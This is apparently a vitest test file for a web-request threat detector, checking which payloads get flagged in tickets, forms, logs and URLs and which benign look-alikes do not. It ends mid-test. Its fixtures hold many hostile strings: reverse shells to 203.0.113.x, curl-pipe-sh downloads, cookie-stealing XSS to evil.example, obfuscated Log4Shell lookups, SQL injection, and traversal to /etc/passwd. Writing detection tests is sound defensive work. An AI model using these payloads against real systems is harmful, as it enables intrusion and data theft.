/** What the words of a request make doubtful, and what they never do. */
import { describe, expect, test } from 'vitest';
import { rank } from '../../../server/engine/threat/answer/score.ts';
import type { LogEvent } from '../../../server/engine/threat/readers/event.ts';
import { detectWeb as detect, never, openThreatEngine, readEvents } from '../../support/threat-engine.ts';

/** Findings with the least probability below which they are doubtful at best. */
const detectWeb = (event: LogEvent) =>
  detect(event).map((hit) => ({
    ...hit,
    doubt: Math.min(1, ...hit.doubts.map(({ below, worded }) => worded?.below ?? below)),
  }));

const engine = await openThreatEngine();
const isFlagged = async (text: string) =>
  rank((await engine.methods.analyze({ text }, never)).severity) >= rank('medium');
const post = (path: string, body: object, head = '') =>
  `POST ${path} HTTP/1.1\nHost: desk.firma.example\nContent-Type: application/json\n${head}\n${JSON.stringify(body)}`;
const ids = (text: string) =>
  readEvents(text)
    .flatMap(detectWeb)
    .filter(({ level }) => rank(level) >= rank('medium'))
    .map(({ id }) => id);

describe('a report on a defect', () => {
  const report = {
    project: 'SHOP',
    summary: 'Preview of reviews shows <script>alert(1)</script> unescaped',
    steps: 'Found in code review, fixed in the branch, please retest on staging and close the ticket.',
  };

  test('may quote what it is about', async () => {
    expect(await isFlagged(post('/api/issues', report))).toBe(false);
    expect(
      await isFlagged(
        post('/api/issues', {
          标题: '评论预览未转义',
          说明: '输入 <script> 会执行,已修复,待回归测试,请关闭工单',
        }),
      ),
    ).toBe(false);
  });

  test('quotes nothing in its address, in a header, or where the payload is all there is', async () => {
    expect(await isFlagged(post('/api/issues?id=1%27+union+select+1,2--', report))).toBe(true);
    expect(await isFlagged(post('/api/issues', report, 'Referer: /<script>alert(1)</script>\n'))).toBe(true);
    expect(await isFlagged(post('/api/issues', { summary: report.summary }))).toBe(true);
    expect(
      await isFlagged(
        post('/api/issues', { ...report, summary: '1; cat /etc/passwd | nc 203.0.113.7 4444' }),
      ),
    ).toBe(true);
  });
});

describe('friendly words of whoever attacks', () => {
  const friendly = 'Thank you for the lovely update, please retest on staging and close the ticket today.';

  test.each([
    "1' UNION ALL SELECT null,username,password FROM users WHERE role='admin'-- -",
    "' or 1=1--",
    '<img src=x onerror=alert(document.cookie)>',
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    '../../../../etc/passwd',
  ])('say nothing of another field: %s', async (payload) => {
    expect(await isFlagged(post('/api/comments', { id: payload, comment: friendly }))).toBe(true);
    // A quotation of it excuses no other field that holds it.
    const quoted = `${friendly} ${payload}`;
    expect(await isFlagged(post('/api/comments', { comment: quoted, id: payload }))).toBe(true);
    expect(await isFlagged(post(`/api?id=${encodeURIComponent(payload)}`, { a: quoted, b: 1 }))).toBe(true);
  });

  test.each([
    ['content', "1' UNION SELECT username,password FROM users-- -"],
    ['body', "'; EXEC master..xp_cmdshell 'whoami'--"],
    ['comment', "<script>fetch('//evil.example/?c='+document.cookie)</script>"],
    ['description', '; cat /etc/passwd | nc 203.0.113.7 4444'],
    ['template', "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
    ['message', '${jndi:ldap://evil.example/a}'],
    ['comment', '`wget http://203.0.113.7/x.sh`'],
    ['comment', "require('child_process').exec('id')"],
    ['query', "select pg_read_file('/etc/passwd')"],
  ])('hide nothing that runs inside a text: %s, %s', async (field, payload) => {
    const wrapped = `${friendly} ${payload} Kind regards, see you at the office.`;
    expect(await isFlagged(post('/api/comments', { title: 'Re: update', [field]: wrapped }))).toBe(true);
  });
});

test('places that a mail fills in are no template injection, expressions are', () => {
  const template = (text: string) => ids(post('/api/render', { template: text, to: 'kim@firma.example' }));
  expect(
    template("Dear {{ customer.name | title }}, table {{ table | default('our best') }} is yours."),
  ).toEqual([]);
  expect(template('Dear {{ config.items() }}')).not.toEqual([]);
  expect(template('Dear {{ request | attr("application") }}')).not.toEqual([]);
  expect(ids('GET /hello?name=%7B%7B7*7%7D%7D HTTP/1.1')).not.toEqual([]);
});

test('an ampersand between everyday words begins no command', () => {
  const query = (text: string) => ids(`GET /?utm_campaign=${encodeURIComponent(text)} HTTP/1.1`);
  expect(query('winter sale & more')).toEqual([]);
  expect(query('wash & fold')).toEqual([]);
  expect(query('127.0.0.1 & who')).not.toEqual([]);
  expect(query('photo.png&who')).not.toEqual([]);
  expect(query('winter | more')).not.toEqual([]);
});

test('cells of a table are read without the quotes of the table', () => {
  const table = (cell: string) =>
    ids(`POST /import HTTP/1.1\nContent-Type: text/csv\n\ndate,text\n2026-01-02,${cell}`);
  expect(table('"=Office supplies & ""paper"""')).toEqual([]);
  expect(table(`"=cmd|'/c calc'!A1"`)).not.toEqual([]);
});

describe('a path of those who run a service', () => {
  const get = (host: string, path = '/api/v1/pods?limit=50', method = 'GET') =>
    `${method} ${path} HTTP/1.1\nHost: ${host}\nUser-Agent: Lens/6.5`;

  test('is asked for within the house', async () => {
    expect(await isFlagged(get('kube-api.internal'))).toBe(false);
  });

  test('is strange from outside', async () => {
    expect(await isFlagged(get('www.firma.example'))).toBe(true);
    expect(await isFlagged(get('203.0.113.9:10250'))).toBe(true);
  });
});

describe('a forged name of the house', () => {
  const get = (path: string) => `GET ${path} HTTP/1.1\nHost: kube-api.internal\nUser-Agent: Lens/6.5`;
  const pull = (url: string) =>
    `POST /import HTTP/1.1\nHost: app.internal\nContent-Type: application/json\n\n{"name":"rates of the day","source":"${url}"}`;

  test('hides no secrets and no address of the host itself', async () => {
    expect(await isFlagged(get('/actuator/env'))).toBe(true);
    expect(await isFlagged(get('/actuator/heapdump'))).toBe(true);
    expect(await isFlagged(get('/.env'))).toBe(true);
    expect(await isFlagged(pull('http://127.0.0.1:8080/admin'))).toBe(true);
    expect(await isFlagged(pull('http://localhost:2375/containers/json'))).toBe(true);
    expect(await isFlagged(pull('http://host.docker.internal:2375/containers/json'))).toBe(true);
    expect(await isFlagged(pull('http://0/admin'))).toBe(true);
  });

  test.each([
    '/WEB-INF/web.xml',
    '/appsettings.json',
    '/api/v1/namespaces/default/secrets',
    '/manager/text/deploy',
  ])('hides no file of settings, secrets or ways to run something: %s', async (path) => {
    expect(await isFlagged(get(path))).toBe(true);
  });

  test('lowers no file that is fetched from outside', () => {
    const [hit] = readEvents(pull('http://203.0.113.7/rates.txt')).flatMap(detectWeb);
    expect(hit).toMatchObject({ id: 'web-rfi-include', doubt: 0 });
  });

  test('lets services name each other', async () => {
    expect(await isFlagged(pull('http://10.2.7.31:8080/rates'))).toBe(false);
  });
});

describe('what an address is for', () => {
  const logs = [
    '{"index":{"_index":"nginx"}}',
    '{"client":"203.0.113.172","request":"GET /product?id=1%27%20OR%201=1 HTTP/1.1","status":403,"waf":"blocked"}',
  ].join('\n');
  const bulk = (path: string) =>
    `POST ${path} HTTP/1.1\nHost: logs.example:9200\nContent-Type: application/x-ndjson\nUser-Agent: Fluent-Bit\n\n${logs}`;

  test('collectors take logs of attacks', async () => {
    expect(await isFlagged(bulk('/_bulk'))).toBe(false);
    expect(await isFlagged(post('/comments', { request: '1 OR 1=1' }))).toBe(true);
  });

  test('scripts run what is written behind their names', async () => {
    const note = { user: '1 OR 1=1', note: '<script>alert(1)</script>' };
    expect(await isFlagged(post('/login.php/_bulk', note))).toBe(true);
    expect(await isFlagged(post('/login%2ephp/_bulk', note))).toBe(true);
    expect(await isFlagged(post('/insert/comment', note))).toBe(true);
    const put = (path: string) =>
      readEvents(`PUT ${path} HTTP/1.1\nHost: a.example\n\nhello`).flatMap(detectWeb);
    expect(put('/uploads/x.php').map(({ doubt }) => doubt)).toEqual([0]);
  });

  test('applicants for jobs send no templates', async () => {
    expect(await isFlagged(post('/jobs/apply', { name: '{{7*7}}' }))).toBe(true);
    expect(await isFlagged(post('/jobs/apply', { name: '{{config.items()}}' }))).toBe(true);
  });

  test('pictures hold no script of another name', () => {
    const doubt = (inner: string) =>
      readEvents(post('/up', { file: `<svg xmlns:x="http://www.w3.org/2000/svg">${inner}</svg>` }))
        .flatMap(detectWeb)
        .find(({ id }) => id === 'web-xss-tag')?.doubt;
    expect(doubt('<path d="M0 0h9"/>')).toBeGreaterThan(0);
    expect(doubt('<x:script>alert(1)</x:script>')).toBe(0);
    expect(doubt('<embed src="data:text/html,a">')).toBe(0);
  });

  test('consoles take whole queries in their own field', () => {
    const doubt = (query: string, head: string) =>
      readEvents(post('/api/datasource/query', { database: 2, native: { query } }, head))
        .flatMap(detectWeb)
        .filter(({ level }) => rank(level) >= rank('medium'))
        .map((hit) => hit.doubt);
    const union =
      "select week, count(*) from orders where status <> 'void' union all select week, 1 from old";
    const doubts = doubt(union, 'Cookie: session=7f\n');
    expect(doubts.length).toBeGreaterThan(0);
    expect(Math.min(...doubts)).toBeGreaterThan(0);
    // Anyone can write credentials or leave them out; the console reads its own field.
    expect(Math.min(...doubt(union, ''))).toBeGreaterThan(0);
    const other = post('/api/datasource/query', { id: union }, 'Cookie: session=7f\n');
    expect(
      Math.min(
        ...readEvents(other)
          .flatMap(detectWeb)
          .map((hit) => hit.doubt),
      ),
    ).toBe(0);
    for (const query of [
      "select 1 union select passwd from users'--",
      "select sys_eval('id') from dual union select 1",
      "select load_file('/srv/a') union select 1",
    ])
      expect(Math.min(...doubt(query, 'Cookie: session=7f\n'))).toBe(0);
  });

  test('commands for a host are judged themselves', async () => {
    const run = (command: string) =>
      `POST /wsman HTTP/1.1\nHost: till-44.store.example:5986\nAuthorization: Kerberos (svc_ansible)\nContent-Type: application/soap+xml\n\n<rsp:CommandLine><rsp:Command>${command}</rsp:Command></rsp:CommandLine>`;
    expect(await isFlagged(run('powershell -NonInteractive -Command "Get-HotFix"'))).toBe(false);
    expect(await isFlagged(run('powershell -NoProfile -Command "iex (irm http://203.0.113.7/a.ps1)"'))).toBe(
      true,
    );
  });
});

describe('what is tried, kept or written about', () => {
  /** Least doubt about a finding of medium severity or more: 0 where one is believed whatever the words say. */
  const doubt = (path: string, body: object, head = '') =>
    Math.min(
      ...readEvents(post(path, body, head))
        .flatMap(detectWeb)
        .filter(({ level }) => rank(level) >= rank('medium'))
        .map((hit) => hit.doubt),
    );

  test.each([
    ['a course', '/training/lab/3/submit', { answer: "' OR '1'='1' --", lab: 'sqli-101' }],
    ['a test of an expression', '/api/regex/test', { pattern: '(?:\\.\\./)+|<script[^>]*>', flags: 'gi' }],
    ['an alert', '/api/alerts', { matched: "id=-1' or 1=1--", src: '198.51.100.9' }],
    ['an editor of pages', '/cms/pages/4', { html: '<div onclick="toggle(this)">Open</div>' }],
    ['a piece of code', '/pastes', { lang: 'html', body: '<button onclick="alert(\'hi\')">go</button>' }],
    ['a sheet', '/sheets/v4/values:append', { values: ['=IF(B2>0,B2*1.06,"-")'] }],
    ['a formula', '/ajax/latex', { src: '\\frac{a}{b} \\\\ \\input{sections/method} $(x)$ `id`' }],
    ['a job at night', '/api/cron/save', { glueSource: 'find /data/tmp -type f -mtime +7 -delete' }],
    [
      'settings of a proxy',
      '/api/v1/namespaces/shop/configmaps/web',
      { a: 'location / { proxy_pass http://127.0.0.1:80; }' },
    ],
    [
      'a statement',
      '/sql/execute',
      { sql: "UPDATE config SET v='60' WHERE k='minutes'; UPDATE config SET v='1'" },
    ],
  ])('%s may hold code', (_, path, body) => {
    expect(doubt(path, body)).toBeGreaterThan(0);
    expect(doubt(path, body)).toBeLessThan(1);
    expect(doubt('/profile.php', body)).toBeLessThan(doubt(path, body));
  });

  test.each([
    ['/training/lab/3/submit', { answer: "<script>fetch('https://evil.example/'+document.cookie)</script>" }],
    ['/training/lab/3/submit', { answer: '; bash -i >& /dev/tcp/203.0.113.5/443 0>&1' }],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
    ['/api/alerts', { matched: '${jndi:ldap://203.0.113.5/a}' }],
    ['/cms/pages/4', { html: '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">' }],
    ['/cms/pages/4', { html: '<script src="https://evil.example/a.js"></script>' }],
    ['/pastes', { body: '; curl http://203.0.113.7/a.sh | sh' }],
    ['/sheets/v4/values:append', { values: ["=cmd|'/c calc'!A1"] }],
    ['/api/cron/save', { glueSource: 'bash -i >& /dev/tcp/203.0.113.33/4444 0>&1' }],
    ['/api/cron/save', { glueSource: 'rm -rf /home' }],
    ['/api/cron/save', { glueSource: 'echo k >> ~/.ssh/authorized_keys' }],
    ['/sql/execute', { sql: "UPDATE users SET role='admin' WHERE id=7; UPDATE users SET passwd='x'" }],
    ['/sql/execute', { sql: "1' UNION SELECT password FROM users--" }],
    ['/jobs/42/run', { cmd: 'id' }],
  ])('%s lowers nothing that reaches out: %o', (path, body) => {
    expect(doubt(path, body)).toBe(0);
  });
});

test.each([
  '/api/alerts',
  '/api/rules',
  '/training/lab/3/submit',
  '/ingest/orders',
  '/api/snippets',
  '/cms/pages/4',
])('%s lowers nothing in fields that tell who or which is meant', async (path) => {
  const words = 'Thank you for the lovely update, please retest on staging and close the ticket today.';
  for (const attack of [
    { id: "1' UNION SELECT username,password FROM users-- -" },
    { user: "a' OR '1'='1" },
    { email: "admin'--" },
    { name: '; cat /etc/passwd' },
  ])
    expect(await isFlagged(post(path, { title: 'Re: update', note: words, ...attack }))).toBe(true);
});

test('names of scripts among plain words call nothing', () => {
  const doubt = (path: string) =>
    Math.min(
      ...readEvents(`GET ${path} HTTP/1.1\nHost: a.example`)
        .flatMap(detectWeb)
        .map((hit) => hit.doubt),
    );
  expect(doubt('/legal/cookie-policy/what-is-document.cookie')).toBeGreaterThan(0);
  expect(doubt('/legal?x=document.cookie%3D1')).toBe(0);
});

test('a tool of databases is known by the whole of its path', () => {
  const query = (path: string) =>
    readEvents(
      `POST ${path} HTTP/1.1\nHost: a.example\nCookie: pma=1\nContent-Type: application/x-www-form-urlencoded\n\nsql_query=DROP+TABLE+IF+EXISTS+tmp%3B+CREATE+TABLE+tmp+LIKE+products%3B`,
    )
      .flatMap(detectWeb)
      .filter(({ level }) => rank(level) >= rank('medium'))
      .map(({ doubt }) => doubt);
  expect(Math.min(...query('/pma/import.php'))).toBeGreaterThan(0);
  expect(Math.min(...query('/shop.php/pma/import.php'))).toBe(0);
  expect(Math.min(...query('/pma/import.php/x.php'))).toBe(0);
});

test('a relative path that goes up once to a plain name is doubtful, one that goes on is not', () => {
  const doubt = (file: string) =>
    Math.min(
      ...readEvents(`GET /download?file=${encodeURIComponent(file)} HTTP/1.1\nHost: a.example`)
        .flatMap(detectWeb)
        .filter(({ id }) => id === 'web-lfi-traversal')
        .map((hit) => hit.doubt),
    );
  expect(doubt('../manuals/pump-3000_en.pdf')).toBeGreaterThan(0);
  expect(doubt('./projects/2026/../2025/reports')).toBeGreaterThan(0);
  for (const file of [
    '../../manuals/a.pdf',
    '../conf/db.properties',
    '../.env',
    'a/../../b',
    '/srv/../b',
    '../admin/list',
  ])
    expect(doubt(file)).toBe(0);
});

test('a bridge puts words before the request that it passes on', () => {
  const passed = (path: string) =>
    ids(
      `SUBSCRIBE via bridge: POST ${path} HTTP/1.1\nHost: a.example\nContent-Type: application/json\n\n{"topic":"barn"}`,
    );
  expect(passed('/bridge/subscribe')).toEqual([]);
  expect(passed('/bridge?id=1%27%20UNION%20SELECT%20password%20FROM%20users--')).not.toEqual([]);
});

test('fields of a query language are no commands in braces, commands in braces are', () => {
  const query = (text: string) => ids(post('/graphql', { query: text }));
  expect(query('{me{id}}')).toEqual([]);
  expect(query('query a{currentUser{id}}')).toEqual([]);
  expect(ids('GET /x?a={cat,/etc/passwd} HTTP/1.1')).toContain('web-rce-unix-chain');
  expect(ids('GET /x?a={ls,} HTTP/1.1')).toContain('web-rce-unix-chain');
});

test('a sum whose plus is a space is still an expression', () => {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
  expect(ids(post('/hello', { name: '${7 + 7}' }))).toContain('web-java-ognl');
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the places of a text
  expect(ids(post('/hello', { name: 'Dear ${name}, ${city}' }))).not.toContain('web-java-ognl');
});

test('an error that somebody tells of is no leak, one as the server writes it is', () => {
  const chat = (text: string) => ids(post('/chat/send', { conv: 7, text }));
  expect(chat('on page 3 I get "ORA-00933: SQL command not properly ended", can you fix it?')).toEqual([]);
  expect(chat('TypeError: no implicit conversion of String into Integer')).toContain('web-leak-error');
});

test('a log that names a file of its host is no request, one that leaves the folder is', () => {
  const ofPath = (path: string) => ids(JSON.stringify({ path, status: 200, client: '203.0.113.4' }));
  expect(ofPath('/usr/bin/env')).toEqual([]);
  expect(ofPath('/srv/../../../etc/passwd')).toContain('web-lfi-traversal');
});

describe('the form of a request', () => {
  test('an answer pasted behind it is no part of it, and hides nothing', () => {
    const transcript = (answer: string) =>
      `DELETE /api/points?older_than=2026-10-03 HTTP/1.1\nHost: app.example\nX-Policy: keep\n\nHTTP/1.1 200 OK\n${answer}`;
    expect(ids(transcript('{"deleted":1}'))).toEqual([]);
    expect(ids(transcript(`{"name":"1' UNION SELECT password FROM users--"}`))).not.toEqual([]);
  });

  test('a body on the line of its path is read', () => {
    expect(ids(`POST /login user=admin%27+OR+%271%27%3D%271%27--+&password=x\nHost: a.example`)).not.toEqual(
      [],
    );
    expect(ids('POST /import {"feed":"file:///etc/passwd"}')).not.toEqual([]);
    expect(ids('POST /import {"feed":"https://news.example/rss","title":"News"}\nHost: a.example')).toEqual(
      [],
    );
  });

  test('a form pasted a field a line is read field by field, and as a whole', () => {
    expect(ids("POST /login\nuser=admin' OR '1'='1\npassword=x")).toContain('web-sqli-tautology');
    expect(ids('POST /run HTTP/1.1\nHost: a.example\n\nname=ana\ncmd=;cat /etc/passwd\nx=1')).toContain(
      'web-lfi-system-file',
    );
    expect(ids('POST /login\nuser=ana\ncity=Rome')).toEqual([]);
    // Lines of a log have several fields.
    expect(readEvents('POST /login\ntime=12:01 level=info msg=ok').length).toBe(2);
  });

  test('a document that is none is read as it stands', () => {
    const picture = `fill 'url(https://a.example/i.jpg"|bash -i >& /dev/tcp/203.0.113.5/443 0>&1;")'`;
    expect(ids(`POST /convert HTTP/1.1\nContent-Type: image/svg+xml\n\n${picture}`)).not.toEqual([]);
  });

  test('base64 in a document keeps its plus signs', () => {
    const content = Buffer.from('Note:\n\n<script>alert(1)</script>` must be >>> escaped').toString('base64');
    expect(content).toContain('+');
    expect(ids(post('/contents', { content }))).toContain('web-xss-tag');
  });

  test('a filter may ask that a field is there, a login may not', () => {
    expect(ids(post('/find', { filter: { coupon: { $ne: null }, city: { $regex: '^Kuala' } } }))).toEqual([]);
    expect(ids(post('/login', { email: { $ne: null }, password: { $regex: '^.*' } }))).not.toEqual([]);
    expect(ids(post('/find', { filter: { password: { $regex: '^a' } } }))).not.toEqual([]);
  });
});

describe('what a client says of itself', () => {
  test('a token that nobody signed', () => {
    const none = Buffer.from('{"alg":"none"}').toString('base64url');
    const token = (head: string) => `${head}.eyJzdWIiOiIxIiwicm9sZSI6ImFkbWluIn0.`;
    const get = (head: string) =>
      `GET /api/me HTTP/1.1\nHost: a.example\nAuthorization: Bearer ${token(head)}`;
    expect(ids(get(none))).toContain('web-session-unsigned');
    expect(ids(get(Buffer.from('{"alg":"RS256"}').toString('base64url')))).toEqual([]);
  });

  test('rights of its own account', () => {
    expect(ids(post('/api/users/me', { display_name: 'Zul', role: 'superadmin' }))).toContain(
      'web-tamper-own-account',
    );
    expect(ids(post('/api/users/me', { display_name: 'Zul', is_staff: true }))).toContain(
      'web-tamper-own-account',
    );
    expect(ids(post('/api/users/me', { display_name: 'Zul', language: 'ms', newsletter: false }))).toEqual(
      [],
    );
    expect(ids(post('/api/admin/invitations', { role: 'admin' }))).toEqual([]);
  });

  test('a negative amount', () => {
    expect(ids(post('/api/cart/items', { sku: 'CABLE', qty: -80 }))).toContain('web-tamper-amount');
    expect(ids(post('/api/refunds', { amount: -12 }))).toEqual([]);
    expect(ids(post('/api/cart/items', { sku: 'CABLE', qty: 2, note: 'size 40-42' }))).toEqual([]);
  });

  test('a redirect that only looks like the own host', () => {
    const get = (next: string) => `GET /login?next=${encodeURIComponent(next)} HTTP/1.1\nHost: bank.example`;
    expect(ids(get('https://bank.example@phish.click/a'))).toContain('web-session-led-away');
    expect(ids(get('https://bank.example.phish.click/a'))).toContain('web-session-led-away');
    expect(ids(get('/\\phish.click'))).toContain('web-session-led-away');
    expect(ids(get('https://www.bank.example/a?b=c@d'))).toEqual([]);
    expect(ids(get('/settings'))).toEqual([]);
  });

  test('a password reset under the name of another site', () => {
    const reset = (other: string) =>
      `POST /forgot-password HTTP/1.1\nHost: app.corp.example\nX-Forwarded-Host: ${other}\nContent-Type: application/x-www-form-urlencoded\n\nemail=a%40corp.example`;
    expect(ids(reset('corp.reset-host.click'))).toContain('web-protocol-other-site');
    expect(ids(reset('www.corp.example'))).toEqual([]);
    expect(ids(reset('www.corp.example, lb.corp.example'))).toEqual([]);
    expect(ids(reset('reset-host.click, www.corp.example'))).toContain('web-protocol-other-site');
    expect(ids(reset('corp.com.my').replace('app.corp.example', 'app.bank.com.my'))).toContain(
      'web-protocol-other-site',
    );
  });

  test('JSON as plain text from another site, with the cookie of its reader', () => {
    const change = (origin: string) =>
      `PATCH /v1/payees/5521 HTTP/1.1\nHost: api.bank.example\nCookie: session=1\nOrigin: ${origin}\nContent-Type: text/plain\n\n{"iban":"LT60 3250","name":"Bearings"}`;
    expect(ids(change('https://invoice-template.click'))).toContain('web-session-cross-site');
    expect(ids(change('https://www.bank.example'))).toEqual([]);
  });
});

test('a remark about one request says nothing of the next', async () => {
  const quoted =
    'GET /search?q=how+do+i+escape+%3Cb%3E+in+select+*+from+users+where+name HTTP/1.1\nHost: a.example';
  const attack =
    'GET /item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20- HTTP/1.1\nHost: a.example';
  expect(await isFlagged(`${quoted}\n\n${attack}`)).toBe(true);
});

describe('places where people write for people', () => {
  const ticket = (body: string, path = '/api/tickets/9912/comments') => post(path, { body });

  test('take commands that somebody is told to run', async () => {
    const body =
      'Please try this as administrator: `ipconfig /flushdns && netsh winsock reset`, then restart the laptop and tell us.';
    expect(await isFlagged(ticket(body))).toBe(false);
    const upgrade =
      'Scanner says the old jar is on the class path, strings like ${jndi:ldap://...} must never be looked up there.';
    expect(await isFlagged(ticket(upgrade, '/rest/api/3/issue'))).toBe(false);
  });

  test.each([
    [
      'a look-up with a host',
      'Please read this note about the release ${jndi:ldap://203.0.113.6/a} today, thank you very much.',
    ],
    [
      'a script of the server',
      "Please read this note about the release <?php system('id'); ?> today, thank you very much.",
    ],
    [
      'a script of the server with a command',
      'Please read this note about the release <?php echo `id`; ?> today, thank you very much.',
    ],
    [
      'a look-up with a long address',
      'Please read this note about the release ${jndi:ldap://[2001:db8::1]:1389/a} today, thank you very much.',
    ],
    [
      'a download that runs',
      'Please read this note about the release; curl http://203.0.113.6/x | sh; thank you very much.',
    ],
    [
      'a command in front',
      'x; cat /etc/passwd # please read this note about the release today, thank you very much',
    ],
    [
      'a query left',
      "Please read this note about the release'; DROP TABLE users;-- thank you very much for it",
    ],
  ])('hide no attack: %s', async (_, body) => {
    expect(await isFlagged(ticket(body))).toBe(true);
    expect(await isFlagged(ticket(body, '/wiki/pages'))).toBe(true);
  });

  test('lend their name to no other place', async () => {
    const body = 'Please run this for me and tell my team about it today; cat /etc/shadow';
    expect(await isFlagged(post('/cgi-bin/ping.cgi/comments', { target: body }))).toBe(true);
    expect(await isFlagged(post('/api/ping', { host: body }))).toBe(true);
  });
});

describe('those who run containers', () => {
  const pod = (command: string[], path = '/apis/apps/v1/namespaces/shop/deployments') =>
    post(path, {
      kind: 'Deployment',
      spec: { containers: [{ name: 'web', image: 'busybox:1.36', command }] },
    });

  test('say what starts in them', async () => {
    expect(await isFlagged(pod(['sh', '-c', 'until nc -z db 5432; do sleep 1; done']))).toBe(false);
    expect(await isFlagged(pod(['/bin/sh', '-c', 'node server.js']))).toBe(false);
  });

  test('start no shell for a stranger', async () => {
    expect(await isFlagged(pod(['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.4/443 0>&1']))).toBe(true);
    expect(await isFlagged(pod(['sh', '-c', 'curl -s http://203.0.113.4/x | sh']))).toBe(true);
    expect(await isFlagged(pod(['sh', '-c', 'chroot /mnt; cat /etc/shadow']))).toBe(true);
  });
});

test('a path that is chosen excuses fields alone that its purpose reads', async () => {
  const form = (path: string, body: string) =>
    `POST ${path} HTTP/1.1\nHost: shop.firma.example\nContent-Type: application/x-www-form-urlencoded\n\n${body}`;
  expect(await isFlagged(form('/careers/jobs/7', 'name=x; rm -rf /'))).toBe(true);
  expect(await isFlagged(form('/builds/7', 'host=1.2.3.4;nc\t203.0.113.4 4444'))).toBe(true);
  for (const value of ['127.0.0.1;id', 'phpinfo()', '{{7*7}}']) {
    expect(await isFlagged(`GET /app/api/v1/rules?host=${value} HTTP/1.1\nHost: a.example`)).toBe(true);
  }
  const question = encodeURIComponent('sum(rate(http_requests_total{code=~"5.."}[5m])) by (job)');
  expect(await isFlagged(`GET /api/v1/query?query=${question} HTTP/1.1\nHost: a.example`)).toBe(false);
  expect(await isFlagged('GET /api/v1/query?query=127.0.0.1;id HTTP/1.1\nHost: a.example')).toBe(true);
});

test('a body behind a blank line is one without headers, too', () => {
  expect(ids('POST /api/search HTTP/1.1\n\n{"filter":{"$where":"sleep(5000)||true"}}')).toContain(
    'web-nosql-operator',
  );
  expect(
    ids('POST /contact HTTP/1.1\n\nname=Ann&email=a@b.example%0d%0aBcc:x@y.example&message=hi'),
  ).toContain('web-protocol-mail');
  // A list of requests stays one.
  expect(readEvents('GET /a HTTP/1.1\n\nGET /b HTTP/1.1\n\nMar 4 09:12:00 h cron: x').length).toBe(3);
});

test('names that a query declares are no operators', () => {
  const query = 'query Orders($where:OrderFilter,$first:Int!){orders(where:$where,first:$first){id}}';
  expect(ids(post('/graphql', { query }))).toEqual([]);
  expect(ids(post('/graphql', { query: `${query} # {"$where":"sleep(1)"}` }))).toContain(
    'web-nosql-operator',
  );
});

test('values of a shell instead of missing ones are no look-ups', () => {
  expect(ids(post('/api/notes', { text: 'rm -rf ${DIR:?}' }))).not.toContain('web-java-log4shell');
  expect(ids(post('/api/notes', { text: '${PORT:-8080}' }))).not.toContain('web-java-ognl');
  for (const expression of ['${user.age - 7}', '${user.role=1}', '${x:-${a.b(1)}}'])
    expect(ids(post('/api/notes', { text: expression }))).toContain('web-java-ognl');
  for (const hidden of [
    '${${::-j}${::-n}di:ldap://x.example/a}',
    '${${env:X:-j}ndi:rmi://x.example/a}',
    '${${a:-j}${b:-n}}',
  ])
    expect(ids(post('/api/notes', { text: hidden }))).toContain('web-java-log4shell');
});

test('a link to a picture is no way out of a folder', () => {
  expect(ids(post('/api/regex', { sample: '../images/logo.png' }))).toEqual([]);
  expect(ids(post('/api/regex', { sample: '../../../images/logo.png' }))).toContain('web-lfi-traversal');
  expect(ids(post('/api/regex', { sample: '../conf/app.ini' }))).toContain('web-lfi-traversal');
});

describe('a body that says more than a payload', () => {
  const doubtOf = (text: string) =>
    Math.min(
      ...readEvents(text)
        .flatMap(detectWeb)
        .filter(({ level }) => rank(level) >= rank('medium'))
        .map(({ doubt }) => doubt),
    );
  const steps = 'Open the list of customers, search for this name and look at the page that comes back.';

  test('makes doubtful what its other fields carry, wherever it is sent', () => {
    expect(doubtOf(post('/destek', { konu: "syntax error at or near '1' = '1", steps }))).toBeGreaterThan(0);
    expect(doubtOf(post('/destek', { konu: "syntax error at or near '1' = '1" }))).toBe(0);
  });

  test.each([
    { id: "1' OR '1'='1" },
    { file: '../../../../etc/passwd' },
    { konu: '; cat /etc/passwd' },
    { konu: 'a; curl http://203.0.113.7/x.sh | sh' },
    { konu: '<script>fetch("//evil.example/?c="+document.cookie)</script>' },
    { url: 'http://169.254.169.254/latest/meta-data/' },
  ])('believes what tells which is meant, breaks out or reaches out: %o', (fields) => {
    expect(doubtOf(post('/destek', { ...fields, steps }))).toBe(0);
  });
});

describe('shapes in an address that are no attack', () => {
  const doubtOf = (path: string) =>
    Math.min(
      1,
      ...readEvents(`GET ${path} HTTP/1.1\nHost: a.example`)
        .flatMap(detectWeb)
        .filter(({ level }) => rank(level) >= rank('medium'))
        .map(({ doubt }) => doubt),
    );

  test.each([
    '/img?url=https%3A%2F%2Fcdn.example%2Fa%2Fb%2F..%2Fthumb.jpg%3Fw%3D300',
    '/backup?dir=/mnt/usb1/../usb2',
    '/products?filter[price][$lt]=100',
    '/search?q=5%22+pipe+90%C2%B0+elbow+--+white',
    '/blog/why-%3Cscript%3E-shows-up-twice',
    '/oauth/authorize?redirect_uri=http%3A%2F%2F127.0.0.1%3A53771%2Fcallback',
    '/search?q=%22union+select%22+site%3Adocs+-oracle',
    '/rss?url=feed%3A%2F%2Fblog.example%2Fatom.xml',
  ])('%s', (path) => {
    expect(doubtOf(path)).toBeGreaterThan(0);
  });

  test.each([
    '/img?url=https%3A%2F%2Fcdn.example%2Fa%2F..%2F..%2Fetc%2Fpasswd',
    '/backup?dir=/mnt/../usb2',
    '/backup?dir=/mnt/usb1/../admin',
    '/login?password[$gt]=0',
    '/search?q=5%22+or+1+--+white',
    '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
    '/oauth/authorize?redirect_uri=http%3A%2F%2F127.0.0.1%3A53771%2F..%2Fadmin%3Fx',
    '/rss?url=feed:javascript:alert(1)',
  ])('%s is believed', (path) => {
    expect(doubtOf(path)).toBe(0);
  });
});

test('money goes back below nothing, an order does not', () => {
  expect(ids(post('/api/orders/7/adjustments', { type: 'refund', amount: -14.9 }))).toEqual([]);
  expect(ids(post('/api/orders/7', { amount: -14.9 }))).not.toEqual([]);
});

describe('everyday words all over a request', () => {
  const doubtOf = (text: string) =>
    Math.min(
      1,
      ...readEvents(text)
        .flatMap(detectWeb)
